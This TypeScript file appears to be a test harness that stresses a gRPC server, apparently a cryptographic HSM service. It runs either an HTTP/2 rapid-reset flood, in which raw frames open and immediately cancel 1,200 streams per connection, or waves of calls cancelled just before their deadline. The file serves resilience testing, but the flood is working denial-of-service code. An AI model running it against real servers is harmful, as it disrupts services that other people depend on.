/**
 * A program that puts one of two loads on a server, both of which reset many calls: `reset-attacks.js flood|deadlines HOST:PORT`.
 */
import { type ClientHttp2Stream, connect as connectHttp2, type IncomingHttpHeaders } from "node:http2";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** The frame types of RFC 9113, section 6. */
const [HEADERS, RST_STREAM, SETTINGS] = [1, 3, 4];
const END_HEADERS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const FLOODS_PER_SECOND = 2.5;
const PAIRS = 1_200;
const WAVE = 90;
const DEADLINE_MS = 300;
/** An encoded GenerateRandomRequest { Len: 1 } with its gRPC envelope. */
const ONE_BYTE = Buffer.from([0, 0, 0, 0, 2, 8, 1]);

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Encodes a header as a literal field without indexing (RFC 7541, section 6.2.2). */
function field(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}

/** The headers of a gRPC call: the method POST and the scheme http from the static table of HPACK, and three literal fields. */
const HEAD = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  ...[
    field(":path", "/grep11.Crypto/GenerateRandom"),
    field(":authority", "hsm"),
    field("content-type", "application/grpc"),
  ],
]);

/** Opens one connection, starts `PAIRS` calls on it and resets each of them immediately. */
function flood(host: string, port: number): void {
  const socket = connect(port, host).on("error", () => undefined);
  socket
    .resume()
    .write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
  const pairs = Array.from({ length: PAIRS }, (_, i) => [
    frame(HEADERS, END_HEADERS, 2 * i + 1, HEAD),
    frame(RST_STREAM, 0, 2 * i + 1, CANCEL),
  ]);
  socket.write(Buffer.concat(pairs.flat()));
  setTimeout(() => socket.destroy(), 1_000);
}

/**
 * Runs an authenticated client that makes waves of calls which exceed their deadline. It notifies the parent process whenever it
 * has to reconnect. Errors: those of {@link requireAdmitted}.
 */
async function deadlines(address: string): Promise<void> {
  const open = () => connectHttp2(`http://${address}`).on("error", () => undefined);
  let session = open();
  const call = (headers: object) =>
    session
      .request({
        ":method": "POST",
        ":path": "/grep11.Crypto/GenerateRandom",
        "content-type": "application/grpc",
        authorization: "Bearer bob",
        ...headers,
      })
      .on("error", () => undefined)
      .resume();
  await requireAdmitted(call({}));
  for (;;) {
    if (session.destroyed) {
      process.send!("cut");
      session = open();
    }
    call({}).end(ONE_BYTE);
    const streams = Array.from({ length: WAVE }, () => call({ "grpc-timeout": `${DEADLINE_MS}m` }));
    await sleep(DEADLINE_MS * 0.97);
    for (const stream of streams) stream.close(8);
    await sleep(50);
  }
}

/** Rejects unless the call succeeds. A client whose calls are refused would be a different load. */
function requireAdmitted(stream: ClientHttp2Stream): Promise<void> {
  return new Promise((resolve, reject) => {
    const check = ({ "grpc-status": status, "grpc-message": message }: IncomingHttpHeaders) => {
      if (status === "0") resolve();
      else if (status !== undefined) reject(new Error(`the server refused the load: ${message}`));
    };
    stream.on("response", check).on("trailers", check);
    stream.on("close", () => reject(new Error("the server did not respond to the load")));
    stream.end(ONE_BYTE);
  });
}

const [, , kind, address = ""] = process.argv;
const { hostname, port } = new URL(`http://${address}`);
process.on("disconnect", () => process.exit());
if (kind === "flood") setInterval(() => flood(hostname, Number(port)), 1_000 / FLOODS_PER_SECOND);
else await deadlines(address);
